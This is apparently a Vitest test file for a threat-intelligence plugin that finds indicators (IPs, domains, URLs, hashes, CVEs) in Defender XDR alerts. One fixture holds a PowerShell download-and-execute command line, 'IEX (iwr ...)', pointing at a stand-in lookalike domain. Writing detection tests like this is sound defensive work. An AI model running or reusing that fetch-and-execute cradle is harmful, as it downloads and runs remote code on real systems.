/**
 * Finding indicators in Defender XDR alerts: exact matches in IP, URL and file evidence, whole tokens in
 * command lines and alert text (so 192.0.2.4 is not found inside 192.0.2.45), parent domains of URL hosts,
 * newest first, capped per indicator.
 */
import { describe, expect, it } from 'vitest';
import { containsToken, findSightings } from '../../../../src/plugins/threat-intel/find-sightings.js';
import { alert, evidence } from './fake-threat-intel-clients.js';

const HASH = 'ab'.repeat(32);

const alerts = [
  alert('spray', [evidence({ ipAddress: '192.0.2.45' })], {
    createdDateTime: '2025-06-11T10:00:00Z',
    title: 'Password spray',
  }),
  alert(
    'powershell',
    [
      evidence({
        '@odata.type': '#microsoft.graph.security.processEvidence',
        processCommandLine:
          'powershell.exe -c "IEX (iwr \'https://cdn.msft-update-cdn.example/s.ps1\')" 192.0.2.240',
        imageFile: { fileName: 'powershell.exe', sha256: HASH.toUpperCase() },
      }),
      evidence({
        '@odata.type': '#microsoft.graph.security.urlEvidence',
        url: 'https://cdn.msft-update-cdn.example/s.ps1#frag',
      }),
    ],
    { createdDateTime: '2025-06-11T14:48:00Z', title: 'Suspicious PowerShell command line' },
  ),
  alert('cve', [], {
    title: 'Exploitation attempt',
    description: 'Traffic matching CVE-2024-3400 (PAN-OS).',
    createdDateTime: '2025-06-10T09:00:00Z',
  }),
];

describe('findSightings', () => {
  it('finds each kind where it appears, newest first', () => {
    const found = findSightings(alerts, [
      { kind: 'ip', value: '192.0.2.45' },
      { kind: 'ip', value: '192.0.2.4' },
      { kind: 'ip', value: '192.0.2.240' },
      { kind: 'domain', value: 'msft-update-cdn.example' },
      { kind: 'url', value: 'https://cdn.msft-update-cdn.example/s.ps1' },
      { kind: 'hash', value: HASH },
      { kind: 'cve', value: 'CVE-2024-3400' },
    ]);
    expect(
      found.map((item) => [item.indicator.value, item.alerts.map((a) => `${a.alertId}:${a.matchedIn}`)]),
    ).toEqual([
      ['192.0.2.45', ['spray:IP evidence']],
      ['192.0.2.4', []],
      ['192.0.2.240', ['powershell:command line']],
      ['msft-update-cdn.example', ['powershell:URL evidence']],
      ['https://cdn.msft-update-cdn.example/s.ps1', ['powershell:command line']],
      [HASH, ['powershell:file hash (powershell.exe)']],
      ['CVE-2024-3400', ['cve:alert text']],
    ]);
  });

  it('matches a domain to the host of URL evidence and its parents, not to lookalikes', () => {
    const urlOnly = [
      alert('u', [
        evidence({
          '@odata.type': '#microsoft.graph.security.urlEvidence',
          url: 'https://a.b.evil.example/x',
        }),
      ]),
    ];
    expect(findSightings(urlOnly, [{ kind: 'domain', value: 'evil.example' }])[0]?.alerts).toHaveLength(1);
    expect(findSightings(urlOnly, [{ kind: 'domain', value: 'vil.example' }])[0]?.alerts).toHaveLength(0);
  });

  it('lists at most ten alerts per indicator and counts the rest', () => {
    const many = Array.from({ length: 14 }, (_, index) =>
      alert(`a${index}`, [evidence({ ipAddress: '192.0.2.66' })], {
        createdDateTime: `2025-06-${String(index + 1).padStart(2, '0')}T00:00:00Z`,
      }),
    );
    const [item] = findSightings(many, [{ kind: 'ip', value: '192.0.2.66' }]);
    expect(item?.alerts).toHaveLength(10);
    expect(item?.more).toBe(4);
    expect(item?.alerts[0]?.alertId).toBe('a13');
  });
});

describe('containsToken', () => {
  it.each([
    ['connect 192.0.2.45:443', '192.0.2.45', true],
    ['connect 192.0.2.45', '192.0.2.4', false],
    ['x.evil.example/y', 'evil.example', false],
    ["'https://evil.example/a'", 'https://evil.example/a', true],
    ['CVE-2024-34000', 'CVE-2024-3400', false],
    ['', 'a', false],
  ])('%j contains %j: %s', (haystack, needle, expected) => {
    expect(containsToken(haystack, needle)).toBe(expected);
  });
});
